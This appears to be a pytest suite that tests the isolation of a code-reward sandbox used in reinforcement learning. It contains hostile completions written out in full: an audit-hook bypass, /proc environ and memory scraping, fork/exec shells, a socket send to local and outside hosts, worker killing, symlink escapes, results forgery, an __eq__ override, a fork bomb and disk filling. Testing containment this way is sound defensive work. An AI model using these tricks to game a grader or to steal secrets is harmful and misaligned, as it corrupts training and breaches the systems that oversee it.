"""Hostile solutions against code_reward under the default isolation (bubblewrap), none skipped.

Every attack must (1) score 0, (2) leak none of the secrets (the trainer's environment, files
planted outside, the tests' expected values) into what it prints, and (3) leave the machine as
it was: no new or changed files outside, no process left, no connection to a local listener.
The weaker levels, when a recipe names them, are held to the attacks their kernel mechanisms
stop (seccomp, the run's own uid, the minimal environment); see docs/verifiers.md.
"""

import os
import socket
import stat
import tempfile
import threading
import time
import uuid
from pathlib import Path

import pytest

from tasks.verifiers import build_reward
from tasks.verifiers.sandbox import RunLimits, UidRange, get_pool
from tests.conftest import descendants

SECRET = 987654321
MARK = f"pwned_{uuid.uuid4().hex[:8]}"
ENV_SECRET = f"hf_{uuid.uuid4().hex}"
FILE_SECRET = f"file-secret-{uuid.uuid4().hex}"
TESTS = [
    {"type": "assert", "code": f"assert f(2) == {SECRET}"},
    {"type": "assert", "code": f"expected = {SECRET}\nassert f(3) == expected"},
    {"type": "assert", "code": f"data = [5, 3, 9, 1]\nexpected = sorted(data)[0] - 1 + {SECRET}\nassert f(data) == expected"},
    {"type": "assert", "code": f"def ref(n):\n    return {SECRET}\nfor n in range(2):\n    assert f(n) == ref(n)"},
    {"type": "assert", "entry_point": "f", "code": f"def check(candidate):\n    assert candidate(5) == {SECRET}\n"},
    {"type": "io", "input": "2\n", "output": f"SECRET-{SECRET}\n"},
]
HONEST = f"def f(x):\n    return {SECRET}\nprint('SECRET-{SECRET}')"
WATCHED = [Path("/tmp"), Path("/var/tmp"), Path("/dev/shm"), Path.home(), Path.cwd(), Path(__file__).parent]


@pytest.fixture(scope="module")
def planted():
    """Secrets outside the sandbox: the trainer's env, a 0600 and a 0644 file, a local listener."""
    os.environ["HF_TOKEN"] = ENV_SECRET
    fd, private = tempfile.mkstemp()
    os.write(fd, FILE_SECRET.encode())
    os.close(fd)
    public = Path(tempfile.gettempdir()) / f"public-{MARK}"
    public.write_text(FILE_SECRET)
    public.chmod(0o644)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    listener.settimeout(0.05)
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind(f"\0{MARK}")
    abstract.listen(16)
    abstract.settimeout(0.05)
    yield {"private": private, "public": str(public), "port": listener.getsockname()[1],
           "listeners": [listener, abstract]}
    os.environ.pop("HF_TOKEN", None)
    os.unlink(private)
    public.unlink()
    listener.close()
    abstract.close()


def _steal(p) -> str:
    """Attacker prelude: switch the in-process audit hook off, then gather everything in reach."""
    return f"""
import gc, os, re, sys
try:
    open('/etc/shadow')  # a denied open: the hook's frame is on the traceback
except Exception as e:
    tb = e.__traceback__
    while tb:
        tb.tb_frame.f_globals.pop('_BLOCKED_EVENTS', None)
        if '_BLOCKED_EVENTS' in tb.tb_frame.f_globals or tb.tb_frame.f_code.co_name == '_hook':
            tb.tb_frame.f_globals['_BLOCKED_EVENTS'] = ()
        tb = tb.tb_next
stolen = []
def grab(path, n=1 << 20):
    try:
        with open(path, 'rb') as fh:
            stolen.append(fh.read(n).decode('latin-1'))
    except Exception:
        pass
for path in ({p['private']!r}, {p['public']!r}, '/proc/self/environ', '/proc/1/environ',
             '/proc/%d/environ' % os.getppid(), '/proc/%d/cmdline' % os.getppid()):
    grab(path)
def ls(d):
    try:
        return [os.path.join(d, n) for n in os.listdir(d)]
    except OSError:
        return []
for path in [f'/proc/{{n}}/environ' for n in os.listdir('/proc') if n.isdigit()] + ls('/tmp') + ls('..'):
    grab(path, 4096)
    for sub in ls(path):
        grab(sub, 4096)
stolen.append(repr(dict(os.environ)))
def found():
    text = ' '.join(stolen)
    ints = [int(m) for m in re.findall(r'\\d{{9}}', text)]
    return ints[0] if ints else -1
"""


ATTACKS = {
    "hook_bypass_reads_files_and_environ": "def f(x):\n    return found()\nprint(' '.join(stolen))",
    "expected_from_globals": "def f(x):\n    return globals().get('expected', globals().get('SECRET', -1))",
    "reference_from_globals": "def f(x):\n    return globals()['ref'](x)",
    "frame_walk": (
        "def f(x):\n    fr, seen = sys._getframe(1), []\n    while fr:\n"
        "        seen += list(fr.f_locals.values()) + list(fr.f_globals.values())\n        fr = fr.f_back\n"
        "    stolen.append(repr(seen))\n    return found()"),
    "gc_scan": "def f(x):\n    stolen.extend(repr(o)[:200] for o in gc.get_objects() if isinstance(o, (str, dict, list)))\n"
               "    return found()\nf(0)\nprint(found())",
    "memory_scan": (  # the whole address space of the solution's process, for the expected values
        "def f(x):\n    with open('/proc/self/maps') as m, open('/proc/self/mem', 'rb', 0) as mem:\n"
        "        for line in m:\n            a, b = (int(v, 16) for v in line.split()[0].split('-'))\n"
        "            if 'r' not in line.split()[1] or b - a > 1 << 26:\n                continue\n"
        "            try:\n                mem.seek(a)\n                chunk = mem.read(b - a)\n"
        "            except OSError:\n                continue\n"
        "            for hit in re.findall(rb'SECRET-\\d+|\\b\\d{9}\\b', chunk):\n"
        "                stolen.append(hit.decode())\n    return found()\nf(0)\nprint(' '.join(stolen)[-300:])"),
    "subprocess_and_fork_exec": (
        "import posix, subprocess\nouts = []\ntry:\n    outs.append(subprocess.run(['cat', '/proc/1/environ'], capture_output=True).stdout)\n"
        "except Exception as e:\n    outs.append(repr(e))\ntry:\n    if posix.fork() == 0:\n"
        f"        os.execv('/bin/sh', ['sh', '-c', 'touch /tmp/{MARK}; cat /proc/*/environ'])\n"
        "except Exception as e:\n    outs.append(repr(e))\ntry:\n    os.posix_spawn('/bin/sh', ['sh'], {})\n"
        "except Exception as e:\n    outs.append(repr(e))\nprint(outs)\ndef f(x):\n    return -1"),
    "local_listener": (
        "import socket\nfor fam, addr in ((socket.AF_INET, ('127.0.0.1', PORT)), (socket.AF_UNIX, '\\0MARK'),\n"
        "                  (socket.AF_INET, ('10.0.0.1', 80))):\n    try:\n        s = socket.socket(fam)\n"
        "        s.settimeout(1)\n        s.connect(addr)\n        s.sendall(b'stolen')\n    except OSError:\n        pass\n"
        "def f(x):\n    return -1"),
    "kill_or_trace_the_worker": (
        "import ctypes, signal\nlibc = ctypes.CDLL(None)\nfor pid in (os.getppid(), 1, -1):\n    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\n    libc.ptrace(16, pid, 0, 0)\n"
        "def f(x):\n    return -1"),
    "write_outside_and_symlinks": (
        f"for d in ('/tmp', '/var/tmp', '/dev/shm', '..', os.path.expanduser('~'), {str(Path.cwd())!r}, "
        f"{str(Path(__file__).parent)!r}, '/'):\n    try:\n        open(os.path.join(d, '{MARK}'), 'w').write('x')\n"
        "    except OSError:\n        pass\n"
        f"for target in ('/tmp', {str(Path.cwd())!r}, os.path.dirname(os.getcwd())):\n    try:\n"
        f"        os.symlink(target, 'escape')\n        open('escape/{MARK}', 'w').write('x')\n    except OSError:\n"
        "        pass\n    finally:\n        os.path.lexists('escape') and os.unlink('escape')\ndef f(x):\n    return -1"),
    "exit0_before_tests": "sys.exit(0)",
    "forge_results_fd": "os.write(3, b'pass\\n[0, 0, [\"b\", 1]]\\n\"done\"\\n')\nos._exit(0)",
    "eq_override": "class A(int):\n    def __eq__(self, o):\n        return True\n    __hash__ = int.__hash__\n"
                   "def f(x):\n    return A(1)\nprint(A(1))",
    "fork_bomb_and_memory_hog": "x = []\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
                                "    x.append(bytearray(10 ** 7))",
    "fill_disk_and_output": "with open('big', 'wb') as fh:\n    while True:\n        fh.write(b'x' * 2 ** 20)\n        sys.stdout.write('y' * 65536)",
}
# what the weaker levels (named in a recipe) must still stop: the kernel's filter, the uid, the env
WEAK_LEVEL_ATTACKS = ["expected_from_globals", "frame_walk", "memory_scan", "subprocess_and_fork_exec",
                      "local_listener", "kill_or_trace_the_worker", "exit0_before_tests", "eq_override"]


def _block(code: str, p) -> str:
    code = code.replace("PORT", str(p["port"])).replace("MARK", MARK)
    return f"<think>hack</think>\n```python\n{_steal(p)}\n{code}\n```"


def _processes() -> set[int]:
    return descendants(os.getpid())


def _sandbox_uid_processes() -> list[int]:
    out = []
    for pid in _processes():
        try:
            with open(f"/proc/{pid}/status") as f:
                uid = int(next(line for line in f if line.startswith("Uid:")).split()[1])
        except (OSError, StopIteration, ValueError):
            continue
        if UidRange.base <= uid < UidRange.base + UidRange.count:
            out.append(pid)
    return out


def _snapshot(p) -> dict:
    """What an attack could change outside: its marked files anywhere watched, the planted secrets."""
    snap = {d: sorted(x.name for x in d.iterdir() if x.name in (MARK, "big", "escape")) if d.is_dir() else []
            for d in WATCHED}
    snap["planted"] = [(os.stat(f).st_mtime_ns, os.stat(f).st_mode, Path(f).read_text()) for f in (p["private"], p["public"])]
    return snap


def _connections(p) -> int:
    n = 0
    for sock in p["listeners"]:
        try:
            while True:
                sock.accept()[0].close()
                n += 1
        except OSError:
            pass
    return n


def _assert_contained(level: str, attack: str, p, before, procs_before, reward) -> None:
    out = reward(completions=[_block(ATTACKS[attack], p)], tests=[TESTS])
    assert out == [0.0], f"{attack} scored {out} under {level}"
    reply = get_pool(2, level).run({"mode": "io", "code": _block(ATTACKS[attack], p).split("```python\n")[1][:-4]},
                                   RunLimits(timeout=2.0, memory_mb=256, max_output=1 << 16))
    leaked = reply["stdout"] + reply["stderr_tail"]
    for secret in (ENV_SECRET, FILE_SECRET, f"SECRET-{SECRET}", str(SECRET)):
        assert secret not in leaked, f"{attack} leaked {secret[:12]}... under {level}"
    time.sleep(0.05)
    assert _processes() <= procs_before, f"{attack} left processes behind"
    assert _sandbox_uid_processes() == []
    assert _snapshot(p) == before, f"{attack} changed something outside the sandbox"
    assert _connections(p) == 0, f"{attack} reached a local listener"


@pytest.fixture(scope="module")
def bwrap_reward(planted):
    reward = build_reward("code_reward", {"timeout_s": 2.0, "workers": 2, "memory_mb": 256, "max_output_bytes": 1 << 16})
    assert reward.params["isolation"] == "bwrap"  # the default
    assert reward(completions=[_block(HONEST, planted)], tests=[TESTS]) == [1.0]  # the tests can be passed
    get_pool(2, "bwrap").warm()
    return reward


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_attack_is_contained_under_bwrap(bwrap_reward, planted, attack):
    t = time.perf_counter()
    _assert_contained("bwrap", attack, planted, _snapshot(planted), _processes(), bwrap_reward)
    assert time.perf_counter() - t < 2 * len(TESTS) * (2.0 + 2.0)


@pytest.mark.parametrize("level", ["unshare", "rlimits"])
@pytest.mark.parametrize("attack", WEAK_LEVEL_ATTACKS)
def test_weaker_levels_still_stop_what_their_kernel_mechanisms_cover(planted, level, attack):
    reward = build_reward("code_reward", {"timeout_s": 2.0, "workers": 2, "memory_mb": 256, "isolation": level,
                                          "max_output_bytes": 1 << 16})
    get_pool(2, level).warm()
    _assert_contained(level, attack, planted, _snapshot(planted), _processes(), reward)


def test_planted_symlinks_at_old_predictable_paths_are_never_followed(tmp_path):
    """rlimits (the level that uses the host's /tmp): run directories come from mkdtemp."""
    victim = tmp_path / "victim"
    victim.mkdir(mode=0o755)
    (victim / "keep").write_text("untouched")
    planted = [Path(f"/tmp/rlvr-sandbox-{os.getpid()}-{n}") for n in range(8)]
    for link in planted:
        if not os.path.lexists(link):
            link.symlink_to(victim)
    try:
        pool = get_pool(2, "rlimits", UidRange(count=1 << 20))
        assert pool.run({"mode": "io", "code": "open('x', 'w').write('1')\nprint(len(open('x').read()))"},
                        RunLimits(timeout=3.0))["stdout"] == "1\n"
        roots = [w.root for w in pool._all if w.root]
        assert roots and all(not os.path.islink(r) and stat.S_IMODE(os.stat(r).st_mode) == 0o711
                             and os.stat(r).st_uid == 0 for r in roots)
        assert sorted(x.name for x in victim.iterdir()) == ["keep"] and stat.S_IMODE(victim.stat().st_mode) == 0o755
    finally:
        for link in planted:
            if link.is_symlink():
                link.unlink()


def test_sandbox_failure_is_an_error_never_a_zero(tmp_path, monkeypatch):
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    reward = build_reward("code_reward", {"workers": 3, "uid_count": 1 << 21})  # a pool not started yet
    with pytest.raises(RuntimeError, match="sandbox"):
        reward(completions=["```python\ndef f(x):\n    return 1\n```"], tests=[[{"type": "assert", "code": "assert f(1) == 1"}]])


def test_hostile_math_answer_in_a_reward_thread_is_zero_fast_and_never_stalls_the_process():
    from tasks.verifiers.mv_pool import get_pool as math_verify_pool

    math_verify_pool().ask(["gold", "1"])  # the worker processes start once per process, before this
    reward = build_reward("math_answer_reward")
    for answer in ("((10^{999})^{999})^{999}", "(9999^{9999})!"):  # refused; killed at the time limit
        result: list = []
        ticks = 0
        worker = threading.Thread(target=lambda a=answer, out=result: out.append(
            reward(completions=[f"<think>x</think>\\boxed{{{a}}}"], answer=["4"])))
        t = time.perf_counter()
        worker.start()
        while worker.is_alive():  # this thread keeps running: the comparison does not hold the GIL
            ticks += 1
            time.sleep(0.005)
        elapsed = time.perf_counter() - t
        assert result == [[0.0]] and elapsed <= 2.0
        assert elapsed < 0.5 or ticks >= 20  # a process whose GIL is held would not tick at all
    assert reward.stats["hostile_answers"] == 2
